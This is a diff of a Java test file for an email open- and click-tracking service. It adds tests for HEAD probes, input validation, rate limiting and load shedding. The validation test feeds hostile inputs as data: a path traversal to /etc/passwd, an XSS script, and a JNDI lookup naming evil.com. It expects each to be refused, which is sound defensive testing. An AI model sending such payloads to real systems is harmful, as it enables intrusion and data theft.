@@ -5,18 +5,25 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.mailblast.event.EventLog;
 import io.mailblast.event.EventLogConfig;
 import io.mailblast.event.FileEventLog;
+import io.mailblast.http.HttpMetrics;
 import io.mailblast.key.Keyring;
 import io.mailblast.key.LinkSigner;
 import io.mailblast.key.MessageId;
 import io.mailblast.key.MessageIdCodec;
+import io.mailblast.testing.RawHttp;
 import io.mailblast.testing.TestServer;
 import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
 import java.io.IOException;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.time.Duration;
 import java.time.InstantSource;
 import java.util.Base64;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.stream.IntStream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -44,12 +51,11 @@ class TrackingRoutesTest {
     void start() throws IOException {
         log = FileEventLog.open(
                 folder.resolve("log"),
-                new EventLogConfig(EventLogConfig.Durability.FSYNC, 64 << 10, 128 << 10, 1_000),
+                new EventLogConfig(EventLogConfig.Durability.FSYNC, 64 << 10, 128 << 10, 1_000, 7),
                 registry);
         identifiers = MessageIdCodec.tracking(Keyring.open(folder.resolve("keys"), "tracking"));
         signer = new LinkSigner(Keyring.open(folder.resolve("keys"), "links"));
-        server = new TestServer(new TrackingRoutes(
-                log, identifiers, signer, InstantSource.system(), registry, TrackingConfig.DEFAULTS));
+        server = new TestServer(routes(TrackingConfig.DEFAULTS));
     }
 
     @AfterEach
@@ -177,7 +183,7 @@ class TrackingRoutesTest {
     }
 
     @Test
-    void headAnswersAndNeverCounts() {
+    void headAnswersAndIsKeptButNoOpenAndNoClick() {
         String id = identifiers.write(MESSAGE);
 
         assertThat(server.call("HEAD", "/track/open/" + id, "", null).statusCode())
@@ -185,7 +191,13 @@ class TrackingRoutesTest {
         assertThat(server.call("HEAD", query(id, TARGET, signer.sign(3, TARGET)), "", null)
                         .statusCode())
                 .isEqualTo(302);
-        assertThat(recorded()).isZero();
+        assertThat(log.read(log.start(), 10).entries())
+                .hasSize(2)
+                .allSatisfy(entry -> assertThat(((EventLog.Entry.Recorded) entry).payload()[1])
+                        .as("kind")
+                        .isEqualTo((byte) 7));
+        assertThat(registry.counter("mailblast.tracking.probes").count()).isEqualTo(2);
+        assertThat(registry.counter("mailblast.tracking.opens").count()).isZero();
     }
 
     @Test
@@ -210,6 +222,108 @@ class TrackingRoutesTest {
         assertThat(last.headers().firstValue("Retry-After")).isPresent();
         assertThat(click(id, TARGET, signer.sign(3, TARGET)).statusCode()).isEqualTo(302);
         assertThat(count("unrecorded")).isEqualTo(2);
+    }
+
+    @Test
+    void whatIsRefusedNamesItsParameter() {
+        String id = identifiers.write(MESSAGE);
+        for (String path : List.of(
+                "/track/open/a.b",
+                "/track/open/%ff",
+                "/track/open/" + "a".repeat(65),
+                "/track/open/..%2F..%2F..%2Fetc%2Fpasswd",
+                "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+                "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D",
+                "/track/click/a.b?url=aHR0cHM6Ly9leGFtcGxlLmNvbS8")) {
+            HttpResponse<String> answer = get(path);
+            assertThat(answer.statusCode()).as(path).isEqualTo(400);
+            assertThat(TestServer.json(answer).at("/errors/0/field").asText())
+                    .as(path)
+                    .isEqualTo("messageId");
+        }
+        assertThat(get("/track/click/" + id + "?url=aHR0cHM6Ly9leGFtcGxlLmNvbS8&s=" + "x".repeat(201))
+                        .body())
+                .contains("\"field\":\"s\"");
+    }
+
+    @Test
+    void underAFloodOfMalformedRequestsRealOnesFromTheSameAddressAreAnsweredAndCounted() {
+        String id = identifiers.write(MESSAGE);
+        try (TestServer limited = new TestServer(TestServer.limited(1), registry, routes(TrackingConfig.DEFAULTS))) {
+            int refused = 0;
+            for (int i = 0; i < 40; i++) {
+                refused += limited.get("/track/open/a.b", "").statusCode() == 429 ? 1 : 0;
+                assertThat(limited.get("/track/open/" + id, "").statusCode()).isEqualTo(200);
+                assertThat(limited.get("/track/open/" + "A".repeat(40), "").statusCode())
+                        .as("forged")
+                        .isEqualTo(200);
+            }
+            assertThat(refused).isGreaterThan(10);
+        }
+        assertThat(recorded()).isEqualTo(40);
+        assertThat(HttpMetrics.suspicious(registry, "forged").count()).isEqualTo(40);
+    }
+
+    @Test
+    void withMoreThanMayWaitOpensAreRefusedAtOnceAndClicksGoOnUnrecorded() throws Exception {
+        String id = identifiers.write(MESSAGE);
+        String open = "/track/open/" + id;
+        String click = query(id, TARGET, signer.sign(3, TARGET));
+        Map<Integer, AtomicInteger> opens = Map.of(200, new AtomicInteger(), 503, new AtomicInteger());
+        Map<Integer, AtomicInteger> clicks = Map.of(302, new AtomicInteger());
+        TrackingConfig few = new TrackingConfig("x", 10, Duration.ofSeconds(10));
+        try (FileEventLog large = FileEventLog.open(folder.resolve("large"), EventLogConfig.DEFAULTS, registry);
+                TestServer busy = new TestServer(
+                        new TrackingRoutes(large, identifiers, signer, InstantSource.system(), registry, few))) {
+            long end = System.nanoTime() + Duration.ofSeconds(30).toNanos();
+            List<Thread> clients = IntStream.range(0, 200)
+                    .mapToObj(number -> Thread.ofVirtual().start(() -> {
+                        try (RawHttp connection = new RawHttp(busy.server().port())) {
+                            do {
+                                status(opens, connection, open);
+                                status(clicks, connection, click);
+                            } while (count("shed") < 100 && System.nanoTime() < end);
+                        }
+                    }))
+                    .toList();
+            for (Thread client : clients) {
+                client.join();
+            }
+
+            double recorded = count("opens") + count("clicks");
+            assertThat(opens.get(503).get()).isPositive();
+            assertThat(clicks.get(302).get()).isGreaterThanOrEqualTo(200);
+            assertThat(count("opens")).isEqualTo(opens.get(200).get());
+            assertThat(count("shed")).isEqualTo(count("unrecorded"));
+            assertThat(count("shed") + recorded)
+                    .isEqualTo(opens.get(200).get()
+                            + opens.get(503).get()
+                            + clicks.get(302).get());
+            assertThat(entries(large)).as("in the log").isEqualTo((int) recorded);
+            assertThat(large.isBusy(1, Duration.ZERO)).as("afterwards").isFalse();
+        }
+    }
+
+    private static void status(Map<Integer, AtomicInteger> counts, RawHttp connection, String path) {
+        int status = connection
+                .write("GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n")
+                .read()
+                .status();
+        counts.get(status).incrementAndGet();
+    }
+
+    private static int entries(EventLog log) {
+        int entries = 0;
+        EventLog.Batch batch = log.read(log.start(), 100_000);
+        while (!batch.entries().isEmpty()) {
+            entries += batch.entries().size();
+            batch = log.read(batch.next(), 100_000);
+        }
+        return entries;
+    }
+
+    private TrackingRoutes routes(TrackingConfig config) {
+        return new TrackingRoutes(log, identifiers, signer, InstantSource.system(), registry, config);
     }
 
     private HttpResponse<String> open(String id) {
